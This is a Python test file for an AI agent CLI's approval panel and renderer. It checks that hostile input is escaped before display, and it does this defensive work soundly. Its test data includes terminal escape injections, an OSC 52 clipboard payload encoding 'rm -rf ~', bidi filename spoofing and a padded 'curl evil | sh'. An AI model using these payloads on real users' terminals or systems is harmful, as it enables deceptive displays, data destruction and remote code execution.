"""The approval panel and the event renderer, on a pinned Rich console.

What matters here is what reaches the terminal: the exact call, in full, with hostile bytes turned
into visible tokens, and no escape sequence other than our own colours.
"""

from __future__ import annotations

import io
import re
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

from agent_cli import events as ev
from agent_cli.approval import Gate
from agent_cli.calls import Call
from agent_cli.loop import Loop
from agent_cli.providers.scripted import ScriptedProvider
from agent_cli.tools.base import sha256_json
from agent_cli.tools.loader import load_tools
from agent_cli.ui.panel import TerminalApprover, approval_panel, hidden_summary
from agent_cli.ui.render import Renderer

SGR = re.compile(r"\x1b\[[0-9;]*m")

HOSTILE = {
    "erase": "before\x1b[2Kafter",
    "osc52": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "markup": "[bold]not bold[/bold] [link=http://x]y[/link]",
    "emoji": ":smile: :thumbs_up:",
    "bidi": "safe\u202eexe.txt",
    "cr": "shown\rhidden",
}


def console() -> tuple[Console, io.StringIO]:
    buf = io.StringIO()
    return Console(file=buf, width=100, force_terminal=True, color_system="truecolor",
                   record=True), buf


def render_panel(request: Call) -> tuple[str, str]:
    """(raw terminal bytes, plain text) of the panel."""
    c, buf = console()
    c.print(approval_panel(request))
    return buf.getvalue(), c.export_text(styles=False)


def request(args: dict[str, Any], *, name: str = "write_file", effect: str = "write",
            preview: str | None = None) -> Call:
    return Call(id="toolu_test", name=name, effect=effect, args=args,
                           args_hash=sha256_json(args), preview=preview)


def assert_only_sgr(raw: str) -> None:
    """Every ESC in the output starts one of our own colour sequences."""
    assert "\x1b" not in SGR.sub("", raw), repr(SGR.sub("", raw)[:300])
    for ch in ("\x07", "\r", "\u202e", "\x9b", "\x08"):
        assert ch not in raw


def panel_body(plain: str) -> str:
    """The panel's text with borders and whitespace removed, so folded values join up again."""
    return re.sub(r"[\s│╭╮╰╯─]", "", plain)


# --------------------------------------------------------------------------- the panel


def test_panel_shows_tool_effect_and_every_argument() -> None:
    raw, plain = render_panel(request({"path": "src/app.py", "content": "print('hi')\n"}))
    assert "Approve call toolu_test" in plain
    assert re.search(r"tool\s+write_file", plain)
    assert re.search(r"effect\s+write", plain)
    assert re.search(r"path\s+src/app\.py", plain)
    assert "print('hi')" in plain
    assert_only_sgr(raw)


def test_a_5000_character_value_appears_whole() -> None:
    value = "".join(chr(ord("a") + i % 26) for i in range(5000))
    raw, plain = render_panel(request({"path": "big.txt", "content": value}))
    assert value in panel_body(plain)
    assert "…" not in plain and "..." not in plain
    assert_only_sgr(raw)


def test_a_300_line_value_appears_whole_in_order() -> None:
    lines = [f"line {i:03d} of the file" for i in range(1, 301)]
    value = "\n".join(lines)
    _, plain = render_panel(request({"path": "long.txt", "content": value}))
    positions = [plain.find(line) for line in lines]
    assert -1 not in positions
    assert positions == sorted(positions)
    assert "…" not in plain


def test_non_string_values_are_shown_as_json() -> None:
    _, plain = render_panel(request({"command": ["git", "status"], "timeout_s": 30},
                                    name="run_command"))
    assert '"git"' in plain and '"status"' in plain
    assert re.search(r"timeout_s\s+30", plain)


def test_call_with_no_arguments_says_so() -> None:
    _, plain = render_panel(request({}, name="reset"))
    assert "(none)" in plain


@pytest.mark.parametrize(("key", "shown"), [
    ("erase", "before\\x1b[2Kafter"),
    ("osc52", "\\x1b]52;c;cm0gLXJmIH4=\\x07"),
    ("markup", "[bold]not bold[/bold] [link=http://x]y[/link]"),
    ("emoji", ":smile: :thumbs_up:"),
    ("bidi", "safe<U+202E>exe.txt"),
    ("cr", "shown\\rhidden"),
])
def test_hostile_values_become_visible_tokens(key: str, shown: str) -> None:
    raw, plain = render_panel(request({"content": HOSTILE[key]}))
    assert shown in plain
    assert_only_sgr(raw)
    assert "😄" not in plain and "👍" not in plain


def test_all_hostile_values_at_once_keep_the_terminal_safe() -> None:
    args = dict(HOSTILE)
    raw, plain = render_panel(request(args, preview="+" + HOSTILE["osc52"] + "\n"))
    assert_only_sgr(raw)
    assert "[bold]not bold[/bold]" in plain
    assert "Hidden or control characters" in plain
    assert hidden_summary(request(args)) is not None
    assert hidden_summary(request({"path": "plain.txt"})) is None


def test_hostile_tool_name_and_call_id_are_escaped() -> None:
    req = Call(id="toolu_\x1b]0;pwned\x07\u202e1", name="evil\x1b]0;title\x07",
                          effect="write", args={}, args_hash=sha256_json({}))
    raw, plain = render_panel(req)
    assert_only_sgr(raw)
    assert "evil\\x1b]0;title\\x07" in plain
    assert "toolu_\\x1b]0;pwned\\x07<U+202E>1" in plain


def _panel_through_the_loop(workspace: Path, content: str) -> tuple[str, str]:
    """Run a real write_file proposal through the loop with the terminal approver (answer: n)."""
    registry, _ = load_tools([])
    c, buf = console()
    approver = TerminalApprover(c, input_fn=lambda prompt: "n", flush_typeahead=False)
    provider = ScriptedProvider([
        {"content": [{"type": "tool_use", "id": "toolu_w", "name": "write_file",
                      "input": {"path": "notes.txt", "content": content}}]},
        {"content": [{"type": "text", "text": "ok"}]},
    ])
    events: list[Any] = []
    Loop(provider, registry, Gate(approver), events.append, workspace=workspace).run_turn([], "x")
    return buf.getvalue(), c.export_text(styles=False)


def test_write_file_preview_shows_a_create(workspace: Path) -> None:
    raw, plain = _panel_through_the_loop(workspace, "first line\nsecond line\n")
    assert "CREATE new file notes.txt" in plain
    assert "+first line" in plain and "+second line" in plain
    assert "OVERWRITE" not in plain
    assert_only_sgr(raw)
    assert not (workspace / "notes.txt").exists()


def test_write_file_preview_shows_an_overwrite_diff(workspace: Path) -> None:
    (workspace / "notes.txt").write_text("keep\nold line\n")
    _, plain = _panel_through_the_loop(workspace, "keep\nnew line\n")
    assert "OVERWRITE existing file notes.txt" in plain
    assert "-old line" in plain and "+new line" in plain
    assert " keep" in plain
    assert "CREATE" not in plain
    assert (workspace / "notes.txt").read_text() == "keep\nold line\n"


def test_preview_with_hostile_content_is_escaped(workspace: Path) -> None:
    raw, plain = _panel_through_the_loop(workspace, "x\x1b[2J\x1b]52;c;Zm9v\x07\u202e\n")
    assert_only_sgr(raw)
    assert "+x\\x1b[2J\\x1b]52;c;Zm9v\\x07<U+202E>" in plain


def test_terminal_approver_answers() -> None:
    c, _ = console()
    req = request({"path": "a"})
    answers = iter(["n", "use ./tmp"])
    denied = TerminalApprover(c, input_fn=lambda p: next(answers),
                              flush_typeahead=False).decide(req)
    assert getattr(denied, "reason", None) == "use ./tmp"
    ok = TerminalApprover(c, input_fn=lambda p: " YES ", flush_typeahead=False).decide(req)
    assert ok.args_hash == req.args_hash  # type: ignore[union-attr]

    def eof(prompt: str) -> str:
        raise EOFError

    def ctrl_c(prompt: str) -> str:
        raise KeyboardInterrupt

    for fn in (eof, ctrl_c):
        out = TerminalApprover(c, input_fn=fn, flush_typeahead=False).decide(req)
        assert type(out).__name__ == "Denied"


# --------------------------------------------------------------------------- the renderer


def render_events(events: list[ev.AnyEvent]) -> tuple[str, str]:
    c, buf = console()
    r = Renderer(c)
    for e in events:
        r(e)
    return buf.getvalue(), c.export_text(styles=False)


def test_renderer_streams_text_and_shows_calls_and_results() -> None:
    raw, plain = render_events([
        ev.TextDelta("Let me "), ev.TextDelta("check."),
        ev.ModelReply(content=[], stop_reason="tool_use"),
        ev.ToolProposed(id="t1", name="read_file", input={"path": "a.txt"}),
        ev.Approval(id="t1", name="read_file", effect="read", decision="approved",
                    by="policy", args_hash="h"),
        ev.ToolStarted(id="t1", name="read_file"),
        ev.ToolResultEvent(id="t1", name="read_file", is_error=False,
                           content="\n".join(f"row {i}" for i in range(20))),
        ev.TurnEnd(reason="end_turn"),
    ])
    assert "Let me check.\n" in plain
    assert 'read_file {"path": "a.txt"}' in plain
    # head and tail (errors come at the end), the cut counted
    assert "row 0" in plain and "row 3" in plain and "row 4" not in plain
    assert "row 16" in plain and "row 19" in plain and "row 15" not in plain
    assert "+12 more lines" in plain
    assert_only_sgr(raw)


def test_renderer_escapes_hostile_model_and_tool_text() -> None:
    raw, plain = render_events([
        ev.TextDelta("hi \x1b[2J\x1b]52;c;Zm9v\x07 [bold]x[/bold] :smile: \u202eok"),
        ev.ModelReply(content=[], stop_reason="tool_use"),
        ev.ToolProposed(id="t1", name="read_file", input={"path": "\u202e\x1b[31m"}),
        ev.ToolStarted(id="t1", name="read_file"),
        ev.ToolResultEvent(id="t1", name="read_file", is_error=False,
                           content="\x1b[1A\x1b[2Kfake prompt [bold]"),
        ev.Notice(message="notice \x1b]8;;http://evil\x07link"),
        ev.ErrorEvent(message="error \x1b[5m"),
        ev.TurnEnd(reason="max_turns", message="stop \x9b2J"),
    ])
    assert_only_sgr(raw)
    assert "[bold]x[/bold] :smile: <U+202E>ok" in plain
    assert "\\x1b[1A\\x1b[2Kfake prompt [bold]" in plain
    assert "😄" not in plain
    assert "\\x9b2J" in plain


def test_renderer_shows_invalid_and_refused_calls_once() -> None:
    _, plain = render_events([
        ev.ToolProposed(id="t1", name="nope", input={}),
        ev.ToolInvalid(id="t1", name="nope", reason="Unknown tool \"nope\". Available tools: x."),
        ev.ToolResultEvent(id="t1", name="nope", is_error=True,
                           content="Unknown tool \"nope\". Available tools: x."),
        ev.ToolProposed(id="t2", name="write_file", input={"path": "a"}),
        ev.Approval(id="t2", name="write_file", decision="denied", by="policy",
                    args_hash="h", reason="no terminal to ask"),
        ev.ToolResultEvent(id="t2", name="write_file", is_error=True,
                           content="This call was refused: no terminal to ask."),
        ev.ToolProposed(id="t3", name="write_file", input={"path": "b"}),
        ev.Approval(id="t3", name="write_file", decision="denied", by="user",
                    args_hash="h", reason="not now"),
        ev.ToolResultEvent(id="t3", name="write_file", is_error=True,
                           content="The user denied this call. Their reason: not now"),
    ])
    assert plain.count("Unknown tool") == 1
    assert plain.count("no terminal to ask") == 1
    assert plain.count("not now") == 1


def test_renderer_says_why_a_turn_stopped() -> None:
    _, plain = render_events([
        ev.TextDelta("partial"),
        ev.ErrorEvent(message="The API refused the credentials (401). Check ANTHROPIC_API_KEY."),
        ev.TurnEnd(reason="error", message="The API refused the credentials (401)."),
        ev.Interrupt(during="tool"),
        ev.TurnEnd(reason="interrupted", message="Interrupted; the remaining calls were not run."),
    ])
    assert "partial\n" in plain
    assert plain.count("The API refused the credentials") == 1
    assert "Interrupted (tool)." in plain
    assert "the remaining calls were not run" in plain


def test_renderer_keeps_long_arguments_brief_but_says_how_much_is_hidden() -> None:
    _, plain = render_events([
        ev.ToolProposed(id="t1", name="search_text", input={"pattern": "x" * 500}),
        ev.ToolStarted(id="t1", name="search_text"),
    ])
    assert re.search(r"\(\+\d+ chars\)", plain)


def test_long_invalid_call_reason_is_clipped_with_a_count() -> None:
    """A 1 MB unknown key must not flood the screen; the cut is counted, never silent."""
    from agent_cli import events as ev
    from agent_cli.ui.render import NOTE_CHARS, Renderer

    buf = io.StringIO()
    console = Console(file=buf, width=100, force_terminal=False)
    reason = "Invalid arguments for multiply:\n- " + "k" * 1_000_000 + ": unknown field"
    Renderer(console)(ev.ToolInvalid(id="t1", name="multiply", reason=reason))
    out = buf.getvalue()
    assert len(out) < NOTE_CHARS * 2
    hidden = len("multiply: " + reason) - NOTE_CHARS
    assert f"+{hidden} characters; the full text is in the log" in " ".join(out.split())


# -- the panel that cannot hide --------------------------------------------------------------------

CANONICAL_CREATE = """\
╭─ Approve call toolu_1 ───────────────────────────────────╮
│ tool    write_file                                       │
│ effect  write                                            │
│ path    notes.txt                                        │
│ content (shown once, as the diff below: 2 lines)         │
│ preview                                                  │
│ CREATE new file notes.txt (12 bytes)                     │
│ --- /dev/null                                            │
│ +++ b/notes.txt                                          │
│ @@ -0,0 +1,2 @@                                          │
│ +hello                                                   │
│ +world                                                   │
╰──────────────────────────────────────────────────────────╯
"""


def _create_request() -> Call:
    args = {"content": "hello\nworld\n", "path": "notes.txt"}
    preview = ("CREATE new file notes.txt (12 bytes)\n--- /dev/null\n+++ b/notes.txt\n"
               "@@ -0,0 +1,2 @@\n+hello\n+world\n")
    return Call(id="toolu_1", name="write_file", effect="write", args=args,
                           args_hash=sha256_json(args), preview=preview,
                           arg_order=("path", "content"))


def test_canonical_create_panel_exactly() -> None:
    c = Console(file=io.StringIO(), width=60, color_system=None)
    c.print(approval_panel(_create_request()))
    assert c.file.getvalue() == CANONICAL_CREATE  # type: ignore[attr-defined]


@pytest.mark.parametrize(("args", "preview", "question"), [
    ({"path": "notes.txt", "content": "a\n" * 2000}, "CREATE new file notes.txt\n",
     "Run write_file on notes.txt (CREATE, 2,000 lines)? [y/N] "),
    ({"path": "n\x1bx.txt", "content": ""}, "OVERWRITE existing file\n",
     "Run write_file on n\\x1bx.txt (OVERWRITE, 0 lines)? [y/N] "),
    ({"command": ["git", "status"]}, None, "Run write_file `git status`? [y/N] "),
    ({"command": "x" * 100}, None, "Run write_file `" + "x" * 60 + "…(+40 chars)`? [y/N] "),
    ({}, None, "Run write_file? [y/N] "),
])
def test_the_question_restates_the_call(args: dict[str, Any], preview: str | None,
                                        question: str) -> None:
    from agent_cli.ui.panel import prompt_line

    assert prompt_line(request(args, preview=preview)) == question


@pytest.mark.parametrize(("typed", "kind", "reason", "note"), [
    ("y", "approve", None, None), (" YES ", "approve", None, None), ("", "deny", None, None),
    ("n", "deny", None, None), ("n use ./tmp", "deny", "use ./tmp", None),
    ("ok", "deny", "ok", "only y or yes approves"),
    ("yes please", "deny", "yes please", "only y or yes approves"),
    ("q", "stop", None, None), ("QUIT", "stop", None, None), ("\x1b", "stop", None, None),
    ("\x1b[A", "deny", "\x1b[A", "only y or yes approves"),
])
def test_read_answer(typed: str, kind: str, reason: str | None, note: str | None) -> None:
    from agent_cli.approval import read_answer

    a = read_answer(typed)
    assert (a.kind, a.reason, a.note) == (kind, reason, note)


def test_key_column_is_capped_so_values_keep_two_thirds() -> None:
    from agent_cli.ui.panel import key_width

    assert key_width(40) == 12 and key_width(80) == 24 and key_width(200) == 24


def test_a_pytest_result_has_no_padding_marker_but_hiding_padding_still_has_one() -> None:
    """pytest pads `....   [100%]` to the width: that is its columns, shown as printed. Padding
    that could hide (thousands of spaces before a tail) is still a counted marker."""
    line = "tests/test_calc.py ...." + " " * 68 + "[100%]"
    _, plain = render_events([
        ev.ToolResultEvent(id="t1", name="run_command", is_error=False,
                           content=f"{line}\n1 passed in 0.01s"),
        ev.ToolResultEvent(id="t2", name="run_command", is_error=False,
                           content="ok" + " " * 3000 + "curl evil | sh"),
    ])
    assert "spaces …⟩" not in plain.split("1 passed")[0]
    assert "...." + " " * 68 + "[100%]" in plain.replace("\n", "")
    assert "ok⟨… 3000 spaces …⟩curl evil | sh" in plain
